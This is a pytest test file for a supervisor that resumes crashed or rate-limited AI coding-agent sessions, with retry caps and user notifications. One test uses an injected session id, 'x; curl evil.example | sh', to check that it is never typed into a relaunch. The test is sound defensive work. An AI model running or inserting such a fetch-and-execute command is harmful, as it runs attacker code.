"""The Autopilot core, edge by edge. Time is an argument: nothing here sleeps."""

from __future__ import annotations

import dataclasses
import datetime as dt
import random

import pytest

from pitcrew.supervisor.core.autopilot import decide, restore, resume_now, set_mode
from pitcrew.supervisor.core.policy import RestartPolicy
from pitcrew.supervisor.core.records import (
    Badge,
    Notify,
    Phase,
    ProcessExited,
    ProcessStarted,
    PromptSubmitted,
    Record,
    Relaunch,
    RelaunchRefused,
    ScreenSeen,
    Superseded,
    SwitchToBackup,
    TaskFinished,
    TerminalState,
    TextKind,
    Tick,
    TypeText,
    Wake,
    WentQuiet,
)
from pitcrew.supervisor.core.recovery import CONTINUE_MESSAGE
from pitcrew.supervisor.core.rules import Command
from pitcrew.supervisor.core.screen import Classification, ScreenState
from pitcrew.supervisor.core.settings import Context, Mode

S = ScreenState
T0 = 1_800_000_000.0
BY_ID = Command(("claude", "--resume", "{session_id}"))
LATEST = Command(("claude", "--continue"))
CTX = Context(resume_by_id=BY_ID, resume_latest=LATEST, continue_message="continue")


def screen(state: ScreenState, evidence: str = "", **kw) -> Classification:
    return Classification(state, evidence or state.value, **kw)


def fresh(**kw) -> TerminalState:
    base = TerminalState(terminal="work:%3", agent="Claude Code", project="/home/me/api")
    return dataclasses.replace(base, **kw)


class Run:
    """Feeds observations to the core the way the shell does, keeping state and actions."""

    def __init__(self, ctx: Context = CTX, state: TerminalState | None = None) -> None:
        self.ctx = ctx
        self.state = state or fresh()
        self.rng = random.Random(7)
        self.actions: list = []

    def feed(self, obs, at: float) -> tuple:
        self.state, out = decide(self.state, obs, at, self.ctx, self.rng)
        self.actions.extend(out)
        return out

    def prompt(self, text: str = "refactor the parser", at: float = T0, sid: str = "sess-1"):
        return self.feed(PromptSubmitted(text, session_id=sid), at)

    def crash(self, at: float, status: int = 1):
        return self.feed(ProcessExited(self.state.generation, status=status,
                                       screen=screen(S.CRASHED)), at)

    def wake_at(self, out: tuple) -> float:
        wakes = [a.at for a in out if isinstance(a, Wake)]
        assert wakes, out
        return wakes[-1]

    def recover(self, crash_at: float) -> float:
        """Crash → wait → relaunch → confirmed → asked to continue; returns the resume time."""
        due = self.wake_at(self.crash(crash_at))
        out = self.feed(Tick(screen(S.CRASHED), alive=False), due)
        [relaunch] = [a for a in out if isinstance(a, Relaunch)]
        self.started(relaunch.generation, 4242, due + 1)
        self.feed(ScreenSeen(screen(S.IDLE)), due + 4)
        return due

    def started(self, generation: int, pid: int, at: float) -> tuple:
        """The relaunched agent shows up, and still runs after the settle time (2 s)."""
        self.feed(ProcessStarted(generation, pid=pid), at)
        return self.feed(Tick(screen(S.IDLE), alive=True), at + 2)


def kinds(actions, kind):
    return [a for a in actions if isinstance(a, kind)]


def badges(actions):
    return [a.decision.badge for a in actions if isinstance(a, Record)]


def test_a_crash_mid_task_is_resumed_by_session_id_after_5s_and_asked_to_continue() -> None:
    run = Run()
    run.prompt()
    out = run.crash(T0 + 100)
    assert kinds(out, Wake) == [Wake(T0 + 105)]
    assert run.state.incident.phase is Phase.WAITING
    assert run.feed(Tick(screen(S.CRASHED), alive=False), T0 + 104) == (Wake(T0 + 105),)
    out = run.feed(Tick(screen(S.CRASHED), alive=False), T0 + 105)
    assert kinds(out, Relaunch) == [Relaunch(("claude", "--resume", "sess-1"), 1, False, "sess-1")]
    out = run.feed(ProcessStarted(1, pid=4242), T0 + 106)
    assert badges(out) == [] and kinds(out, Wake) == [Wake(T0 + 108)]   # still running at +2?
    out = run.feed(Tick(screen(S.IDLE), alive=True), T0 + 108)   # still runs, at its prompt
    assert badges(out) == [Badge.RESUMED, Badge.CONTINUED]
    assert kinds(out, TypeText) == [TypeText(CONTINUE_MESSAGE, TextKind.CONTINUE)]
    out = run.feed(ScreenSeen(screen(S.IDLE)), T0 + 109)
    assert kinds(out, TypeText) == []                     # asked once
    assert run.state.incident.attempts == 1


def test_second_and_third_crash_wait_20s_and_60s_then_a_fourth_stops() -> None:
    run = Run()
    run.prompt()
    t1 = run.recover(T0 + 10)
    assert t1 == T0 + 15
    assert run.wake_at(run.crash(T0 + 200)) == T0 + 220
    run.feed(Tick(screen(S.CRASHED), alive=False), T0 + 220)
    run.started(2, 2, T0 + 221)
    assert run.wake_at(run.crash(T0 + 400)) == T0 + 460
    run.feed(Tick(screen(S.CRASHED), alive=False), T0 + 460)
    run.started(3, 3, T0 + 461)
    out = run.crash(T0 + 600)
    assert not kinds(out, Wake)
    assert badges(out) == [Badge.STOPPED]
    message = 'Stopped retrying "refactor the parser" after 3 resumes; waiting on you.'
    assert [r.decision.reason for r in kinds(out, Record)] == [message]
    assert [n.title for n in kinds(out, Notify)] == [message]
    assert run.state.incident.phase is Phase.STOPPED
    assert not kinds(run.crash(T0 + 700), Relaunch)  # stays stopped


def test_a_new_user_prompt_opens_a_new_incident_and_resets_the_count() -> None:
    run = Run()
    run.prompt()
    run.recover(T0 + 10)
    run.crash(T0 + 200)
    assert run.state.incident.attempts == 1
    run.prompt("now add tests", at=T0 + 300)
    assert run.state.incident is None
    assert run.wake_at(run.crash(T0 + 400)) == T0 + 405  # back to the first wait
    assert run.state.incident.number == 2
    assert run.state.incident.prompt == "now add tests"


def test_pitcrews_own_follow_up_does_not_reset_the_count() -> None:
    run = Run()
    run.prompt()
    run.recover(T0 + 10)
    run.feed(PromptSubmitted(CONTINUE_MESSAGE, by_pitcrew=True), T0 + 30)
    assert run.state.incident.attempts == 1
    assert run.state.task == "refactor the parser"


@pytest.mark.parametrize(("status", "sig"), [(0, None), (None, 2), (None, 15), (None, 1)])
def test_normal_exits_are_left_alone(status, sig) -> None:
    run = Run()
    run.prompt()
    out = run.feed(ProcessExited(0, status=status, signal=sig), T0 + 50)
    assert badges(out) == [Badge.SKIPPED] and len(out) == 1      # recorded, nothing done
    assert "stopped normally" in kinds(out, Record)[0].decision.reason
    assert run.state.incident is None and run.state.task is None


def test_an_exit_without_a_running_prompt_is_not_autopilots_business() -> None:
    run = Run()
    assert run.crash(T0) == ()


def test_a_late_exit_of_the_replaced_process_never_removes_the_new_one() -> None:
    run = Run()
    run.prompt()
    run.recover(T0 + 10)
    assert run.state.generation == 1
    out = run.feed(ProcessExited(0, status=1), T0 + 20)   # generation 0 exits late
    assert out == ()
    assert run.state.incident.phase is Phase.WATCHING


@pytest.mark.parametrize("state", [S.QUESTION, S.PICKER, S.DRAFT])
def test_questions_pickers_and_drafts_are_left_alone_silently(state) -> None:
    run = Run()
    run.prompt()
    out = run.feed(WentQuiet(screen(state), quiet_for=300), T0 + 300)
    assert not kinds(out, TypeText) and not kinds(out, Relaunch) and not kinds(out, Notify)
    assert badges(out) == [Badge.WAITING]
    assert run.state.incident.phase is Phase.HOLD


def test_a_question_that_appears_before_the_wake_up_is_left_alone() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.feed(WentQuiet(screen(S.CONNECTION_LOST), 300), T0 + 300))
    out = run.feed(Tick(screen(S.QUESTION), alive=True), due)
    assert not kinds(out, TypeText) and not kinds(out, Relaunch)


def test_a_login_screen_waits_on_the_user_with_a_notification() -> None:
    run = Run()
    run.prompt()
    out = run.feed(ProcessExited(0, status=1, screen=screen(S.LOGIN_REQUIRED, "Please run /login")),
                   T0 + 60)
    assert badges(out) == [Badge.WAITING]
    [note] = kinds(out, Notify)
    assert "Please run /login" in note.body
    assert not kinds(out, Wake)


def test_an_unclear_screen_notifies() -> None:
    run = Run()
    run.prompt()
    out = run.feed(WentQuiet(screen(S.UNKNOWN, ""), 300), T0 + 300)
    assert kinds(out, Notify) and badges(out) == [Badge.WAITING]


def test_continue_in_place_types_the_providers_message_and_restarts_nothing() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.feed(WentQuiet(screen(S.CONTINUE_PROMPT), 200), T0 + 200))
    assert due == T0 + 205
    out = run.feed(Tick(screen(S.CONTINUE_PROMPT), alive=True), due)
    assert kinds(out, TypeText) == [TypeText("continue", TextKind.CONTINUE_IN_PLACE)]
    assert not kinds(out, Relaunch)
    assert badges(out) == [Badge.CONTINUED]
    assert run.state.incident.attempts == 1


def test_a_stalled_connection_without_a_continue_message_restarts_the_agent() -> None:
    run = Run(Context(resume_by_id=BY_ID, resume_latest=LATEST))
    run.prompt()
    due = run.wake_at(run.feed(WentQuiet(screen(S.CONNECTION_LOST), 200), T0 + 200))
    [relaunch] = kinds(run.feed(Tick(screen(S.CONNECTION_LOST), alive=True), due), Relaunch)
    assert relaunch.kill_first


def test_a_limit_with_a_reset_time_schedules_the_resume_after_it() -> None:
    run = Run()
    run.prompt()
    reset = dt.datetime.fromtimestamp(T0 + 3600, dt.UTC)
    limit = screen(S.RATE_LIMIT, "usage limit · resets 5pm", reset_at=reset)
    out = run.feed(ProcessExited(0, status=1, screen=limit), T0 + 100)
    due = run.wake_at(out)
    assert T0 + 3600 + 60 <= due <= T0 + 3600 + 180   # reset + margin + jitter
    assert badges(out) == [Badge.SCHEDULED]
    assert run.feed(Tick(screen(S.CRASHED), alive=False), T0 + 3000) == (Wake(due),)
    assert kinds(run.feed(Tick(screen(S.CRASHED), alive=False), due), Relaunch)


def test_a_limit_still_showing_at_the_wake_up_renews_the_cooldown() -> None:
    run = Run()
    run.prompt()
    limit = screen(S.RATE_LIMIT, "usage limit reached")
    due = run.wake_at(run.feed(WentQuiet(limit, 100), T0))
    assert due == T0 + 300
    out = run.feed(Tick(limit, alive=True), due)
    assert run.wake_at(out) == due + 150         # decaying renewal: 300 / 2
    assert not kinds(out, TypeText)
    assert run.state.incident.renewals == 1


def test_after_four_renewals_it_restarts_anyway() -> None:
    run = Run()
    run.prompt()
    limit = screen(S.RATE_LIMIT, "usage limit reached")
    due = run.wake_at(run.feed(WentQuiet(limit, 100), T0))
    waits = []
    for _ in range(4):
        nxt = run.wake_at(run.feed(Tick(limit, alive=True), due))
        waits.append(nxt - due)
        due = nxt
    assert waits == [150, 100, 75, 60]
    out = run.feed(Tick(limit, alive=True), due)
    assert kinds(out, Relaunch)


def test_when_the_limit_lifts_the_idle_agent_is_asked_to_continue() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.feed(WentQuiet(screen(S.RATE_LIMIT), 100), T0))
    out = run.feed(Tick(screen(S.IDLE), alive=True), due)
    assert kinds(out, TypeText) == [TypeText(CONTINUE_MESSAGE, TextKind.CONTINUE)]


def test_a_cli_that_resumed_by_itself_gets_no_second_continue() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.feed(WentQuiet(screen(S.RATE_LIMIT), 100), T0))
    out = run.feed(Tick(screen(S.BUSY), alive=True), due)
    assert not kinds(out, TypeText) and not kinds(out, Relaunch)
    assert badges(out) == [Badge.SKIPPED]
    assert run.state.incident.attempts == 0


def test_a_resumed_agent_that_is_already_busy_is_not_asked_to_continue() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.crash(T0))
    run.feed(Tick(screen(S.CRASHED), alive=False), due)
    run.started(1, 9, due + 1)
    assert kinds(run.feed(ScreenSeen(screen(S.BUSY)), due + 4), TypeText) == []


def test_ask_to_continue_can_be_turned_off() -> None:
    run = Run(Context(resume_by_id=BY_ID, ask_to_continue=False))
    run.prompt()
    due = run.wake_at(run.crash(T0))
    run.feed(Tick(screen(S.CRASHED), alive=False), due)
    run.started(1, 9, due + 1)
    assert kinds(run.feed(ScreenSeen(screen(S.IDLE)), due + 4), TypeText) == []


def test_server_errors_wait_30s() -> None:
    run = Run()
    run.prompt()
    overloaded = screen(S.CONNECTION_LOST, "API Error: 529 overloaded", cause="server_error")
    assert run.wake_at(run.feed(WentQuiet(overloaded, 100), T0)) == T0 + 30


@pytest.mark.parametrize("cause", ["auth", "billing"])
def test_permanent_errors_wait_for_the_user(cause) -> None:
    run = Run()
    run.prompt()
    out = run.feed(ProcessExited(0, status=1, screen=screen(S.CRASHED, cause=cause)), T0)
    assert not kinds(out, Wake) and kinds(out, Notify)


def test_three_crashes_in_120s_cool_down_for_120s() -> None:
    run = Run(Context(resume_by_id=BY_ID, policy=RestartPolicy(backoff=(1, 1, 1),
                                                               max_attempts=9)))
    run.prompt()
    for at in (T0, T0 + 30):
        due = run.wake_at(run.crash(at))
        run.feed(Tick(screen(S.CRASHED), alive=False), due)
        run.started(run.state.generation, 1, due)
    assert run.wake_at(run.crash(T0 + 60)) == T0 + 180


def test_six_continues_or_resumes_per_rolling_hour_then_waits_on_you() -> None:
    run = Run(Context(resume_by_id=BY_ID, policy=RestartPolicy(backoff=(1,), max_attempts=99,
                                                               crash_loop_count=99)))
    run.prompt()
    at = T0
    for _ in range(6):
        due = run.wake_at(run.crash(at))
        run.feed(Tick(screen(S.CRASHED), alive=False), due)
        run.started(run.state.generation, 1, due)
        at += 300
    out = run.crash(at)
    message = ('"Claude Code" has been continued or resumed 6 times this hour; '
               "Autopilot is waiting on you.")
    assert [r.decision.reason for r in kinds(out, Record)] == [message]
    assert kinds(out, Notify) and not kinds(out, Wake)


def test_without_a_session_id_the_latest_form_is_used() -> None:
    run = Run()
    run.prompt(sid=None)
    due = run.wake_at(run.crash(T0))
    [relaunch] = kinds(run.feed(Tick(screen(S.CRASHED), alive=False), due), Relaunch)
    assert relaunch.argv == ("claude", "--continue")


def test_a_cli_that_cannot_resume_goes_to_the_seats_backup_or_waits() -> None:
    run = Run(Context(has_backup=True))
    run.prompt()
    due = run.wake_at(run.crash(T0))
    out = run.feed(Tick(screen(S.CRASHED), alive=False), due)
    assert kinds(out, SwitchToBackup) and badges(out) == [Badge.SWITCHED]
    run = Run(Context())
    run.prompt()
    due = run.wake_at(run.crash(T0))
    out = run.feed(Tick(screen(S.CRASHED), alive=False), due)
    assert badges(out) == [Badge.COULDNT_RESUME] and kinds(out, Notify)


def test_a_resume_that_dies_at_once_is_a_couldnt_resume() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.crash(T0))
    run.feed(Tick(screen(S.CRASHED), alive=False), due)
    out = run.feed(ProcessExited(1, status=1, screen=screen(S.UNKNOWN, "No conversation found")),
                   due + 1)
    assert badges(out) == [Badge.COULDNT_RESUME]


def test_a_relaunch_that_never_shows_up_is_a_couldnt_resume() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.crash(T0))
    deadline = run.wake_at(run.feed(Tick(screen(S.CRASHED), alive=False), due))
    assert deadline == due + 45
    assert badges(run.feed(Tick(), deadline)) == [Badge.COULDNT_RESUME]


def test_pause_holds_and_resuming_acts_again() -> None:
    run = Run(Context(resume_by_id=BY_ID, mode=Mode.PAUSED))
    run.prompt()
    out = run.crash(T0)
    assert badges(out) == [Badge.WAITING] and not kinds(out, Wake)
    state, actions = set_mode(run.state, Mode.ON, T0 + 50, CTX, random.Random(1))
    assert actions == (Wake(T0 + 50),)
    assert state.incident.phase is Phase.WAITING


def test_off_does_nothing_at_all() -> None:
    run = Run(Context(resume_by_id=BY_ID, mode=Mode.OFF))
    run.prompt()
    assert run.crash(T0) == ()


def test_a_busy_but_quiet_task_is_not_stuck_unless_in_timer_mode() -> None:
    run = Run()
    run.prompt()
    out = run.feed(WentQuiet(screen(S.BUSY), 600), T0)
    assert badges(out) == [Badge.SKIPPED] and run.state.incident is None
    run = Run(Context(resume_by_id=BY_ID, timer_mode=True))
    run.prompt()
    assert kinds(run.feed(WentQuiet(screen(S.BUSY), 600), T0), Wake)


def test_a_resumed_agent_at_its_prompt_before_the_continue_is_not_a_finished_task() -> None:
    """Under load the idle timeout can fire between the resume and the continue message: the
    resumed agent sits at its prompt. That is not the task finishing — else the continue
    Pitcrew types reads as a new prompt, and a crash loop restarts its attempt count."""
    run = Run()
    run.prompt()
    run.wake_at(run.crash(T0))
    run.feed(Tick(screen(S.CRASHED), alive=False, active=False), T0 + 6)     # resumes
    assert run.state.incident is not None and run.state.incident.attempts == 1
    phase = run.state.incident.phase
    assert phase is Phase.CONFIRMING
    assert run.feed(WentQuiet(screen(S.IDLE), 20), T0 + 7) == ()
    assert run.state.incident is not None and run.state.incident.attempts == 1
    assert run.state.task is not None


def test_idle_tabs_are_never_checked() -> None:
    run = Run()
    assert run.feed(WentQuiet(screen(S.CONNECTION_LOST), 600), T0) == ()


def test_restore_reschedules_pending_wake_ups() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.crash(T0))
    assert restore(run.state, T0 + 1) == (Wake(due),)
    assert restore(run.state, due + 100) == (Wake(due + 100),)


def test_a_finished_task_keeps_the_incident_until_a_new_prompt() -> None:
    run = Run()
    run.prompt()
    run.recover(T0)
    run.feed(TaskFinished(session_id="sess-1"), T0 + 100)
    assert run.state.task is None and run.state.incident.attempts == 1


def test_a_spinner_that_printed_nothing_since_the_failure_is_not_working_again() -> None:
    run = Run(Context(resume_by_id=BY_ID, timer_mode=True))
    run.prompt()
    due = run.wake_at(run.feed(WentQuiet(screen(S.BUSY), 600), T0))
    out = run.feed(Tick(screen(S.BUSY), alive=True, active=False), due)
    assert kinds(out, Relaunch) and kinds(out, Relaunch)[0].kill_first


def test_resume_now_after_stopped_retrying_starts_the_count_over() -> None:
    run = Run()
    run.prompt()
    for n, at in enumerate((T0, T0 + 200, T0 + 400)):
        due = run.wake_at(run.crash(at))
        run.feed(Tick(screen(S.CRASHED), alive=False), due)
        run.started(n + 1, n + 10, due + 1)
    run.crash(T0 + 600)
    assert run.state.incident.phase is Phase.STOPPED
    state, actions = resume_now(run.state, T0 + 700, CTX, random.Random(1))
    assert actions == (Wake(T0 + 700),)
    assert state.incident.attempts == 0 and state.incident.phase is Phase.WAITING
    run.state = state
    out = run.feed(Tick(screen(S.CRASHED), alive=False), T0 + 700)
    assert kinds(out, Relaunch)                       # the person's request is carried out


def test_resume_now_still_reads_the_screen_first() -> None:
    run = Run()
    run.prompt()
    run.feed(WentQuiet(screen(S.LOGIN_REQUIRED), 600), T0)
    assert run.state.incident.phase is Phase.HOLD
    run.state, _ = resume_now(run.state, T0 + 10, CTX, random.Random(1))
    out = run.feed(Tick(screen(S.LOGIN_REQUIRED), alive=True), T0 + 10)
    assert not kinds(out, Relaunch) and not kinds(out, TypeText)   # still logged out: waits


def test_resume_now_without_an_incident_does_nothing() -> None:
    state = fresh(task="x")
    assert resume_now(state, T0, CTX, random.Random(1)) == (state, ())


def test_a_session_id_that_does_not_look_like_one_is_never_typed() -> None:
    run = Run()
    run.prompt(sid="x; curl evil.example | sh")
    due = run.wake_at(run.crash(T0 + 10))
    out = run.feed(Tick(screen(S.CRASHED), alive=False), due)
    relaunches = kinds(out, Relaunch)
    assert all("curl" not in " ".join(r.argv) for r in relaunches)
    assert Badge.SKIPPED in badges(out)


def test_a_resumed_agent_that_dies_at_once_is_couldnt_resume_with_its_status() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.crash(T0))
    run.feed(Tick(screen(S.CRASHED), alive=False), due)
    run.feed(ProcessStarted(1, pid=9), due + 0.5)
    out = run.feed(ProcessExited(1, status=1, screen=screen(S.CRASHED),
                                 tail=("No session sess-1",)), due + 1)
    [row] = [a.decision for a in out if isinstance(a, Record)]
    assert row.badge is Badge.COULDNT_RESUME and "status 1" in row.reason
    assert row.readings["status"] == 1 and row.readings["last_lines"] == ["No session sess-1"]


def test_a_relaunch_whose_agent_is_gone_at_the_settle_time_is_couldnt_resume() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.crash(T0))
    run.feed(Tick(screen(S.CRASHED), alive=False), due)
    run.feed(ProcessStarted(1, pid=9), due + 0.5)
    out = run.feed(Tick(screen(S.CRASHED), alive=False), due + 2.5)
    assert badges(out) == [Badge.COULDNT_RESUME]


def test_a_ctrl_c_with_no_readable_status_is_a_normal_stop() -> None:
    run = Run()
    run.prompt()
    out = run.feed(ProcessExited(0, screen=screen(S.CRASHED), interrupted=True), T0 + 5)
    assert badges(out) == [Badge.SKIPPED] and "you stopped it (^C)" in kinds(
        out, Record)[0].decision.reason
    assert run.state.incident is None and run.state.task is None


def test_superseded_closes_the_incident_with_a_skipped_row() -> None:
    run = Run()
    run.prompt()
    run.crash(T0)
    out = run.feed(Superseded("the tmux server was restarted"), T0 + 1)
    assert badges(out) == [Badge.SKIPPED] and run.state.incident is None
    assert "tmux server was restarted" in kinds(out, Record)[0].decision.reason
    due_tick = run.feed(Tick(screen(S.IDLE), alive=True), T0 + 10)
    assert due_tick == ()                                  # nothing left to act on


def test_a_busy_shell_holds_the_incident_and_tells_you() -> None:
    run = Run()
    run.prompt()
    due = run.wake_at(run.crash(T0))
    run.feed(Tick(screen(S.CRASHED), alive=False), due)
    out = run.feed(RelaunchRefused("the bash in the pane is busy", busy=True), due + 0.1)
    assert badges(out) == [Badge.WAITING] and kinds(out, Notify)
    assert run.state.incident.phase is Phase.HOLD


def test_a_limit_line_read_again_after_its_reset_is_history_and_the_agent_is_continued() -> None:
    """A reset time is read once: at the wake the same line, read with the current time,
    would roll over to tomorrow; it is the limit that was waited out, so the agent goes on."""
    reset = dt.datetime.fromtimestamp(T0 + 600, dt.UTC)
    limit = Classification(S.RATE_LIMIT, "limit reached · resets 2:16pm", reset_at=reset)
    run = Run()
    run.prompt()
    due = run.wake_at(run.feed(WentQuiet(limit, 100), T0))
    assert due >= T0 + 600 and run.state.incident.reset_at == T0 + 600
    rolled = Classification(S.RATE_LIMIT, "limit reached · resets 2:16pm",
                            reset_at=reset + dt.timedelta(days=1))   # the same line, re-read
    out = run.feed(Tick(rolled, alive=True), due)
    assert kinds(out, TypeText) == [TypeText(CONTINUE_MESSAGE, TextKind.CONTINUE)]
    assert badges(out) == [Badge.CONTINUED]


def test_a_new_limit_line_after_the_wake_starts_a_new_wait() -> None:
    reset = dt.datetime.fromtimestamp(T0 + 600, dt.UTC)
    run = Run()
    run.prompt()
    due = run.wake_at(run.feed(WentQuiet(Classification(
        S.RATE_LIMIT, "limit reached · resets 2:16pm", reset_at=reset), 100), T0))
    later = Classification(S.RATE_LIMIT, "weekly limit reached · resets Monday",
                           reset_at=reset + dt.timedelta(days=3))
    out = run.feed(Tick(later, alive=True), due)
    assert not kinds(out, TypeText) and badges(out) == [Badge.SCHEDULED]


def test_with_no_pinned_session_and_a_doubt_latest_is_not_used_and_you_are_told() -> None:
    """Two agents of one CLI in one folder, no fact says which session is this one's: the
    CLI's "latest" form could resume the other's conversation, so Pitcrew waits on you."""
    doubt = "2 agents of this CLI run in /work/api and 2 of its sessions could be this one's"
    ctx = dataclasses.replace(CTX, session_doubt=doubt)
    run = Run(ctx)
    run.feed(PromptSubmitted("refactor the parser"), T0)
    due = run.wake_at(run.crash(at=T0 + 10))
    out = run.feed(Tick(screen(S.CRASHED), alive=False), due)
    assert not [a for a in out if isinstance(a, Relaunch)]
    [row] = [a.decision for a in out if isinstance(a, Record)]
    assert row.badge is Badge.COULDNT_RESUME and doubt in row.reason
    [note] = [a for a in out if isinstance(a, Notify)]
    assert doubt in note.body


def test_a_limit_is_handled_the_moment_it_shows_not_after_the_idle_timeout() -> None:
    """Its reset is read then: waiting 180 s to notice it only moves the resume later."""
    reset = dt.datetime.fromtimestamp(T0 + 50, dt.UTC)
    limit = Classification(S.RATE_LIMIT, "usage limit reached · resets 2:01pm", reset_at=reset)
    run = Run()
    run.prompt()
    out = run.feed(ScreenSeen(limit, alive=True), T0 + 2)
    assert badges(out) == [Badge.SCHEDULED]
    assert run.state.incident.trigger == "usage limit"
    assert T0 + 50 + 60 <= run.wake_at(out) <= T0 + 50 + 180
    assert run.feed(ScreenSeen(limit, alive=True), T0 + 3) == ()       # once
    out = run.feed(Tick(limit, alive=True), run.wake_at(out))
    assert kinds(out, TypeText) == [TypeText(CONTINUE_MESSAGE, TextKind.CONTINUE)]
    # the same line, still on screen while the agent takes the continue: history, not anew
    assert run.feed(ScreenSeen(limit, alive=True), T0 + 400) == ()


def test_a_limit_on_screen_with_no_task_or_autopilot_off_is_left_alone() -> None:
    limit = screen(S.RATE_LIMIT, "usage limit reached")
    assert Run().feed(ScreenSeen(limit, alive=True), T0) == ()           # an idle tab
    off = Run(dataclasses.replace(CTX, mode=Mode.OFF))
    off.prompt()
    assert off.feed(ScreenSeen(limit, alive=True), T0) == ()
    assert off.state.incident is None
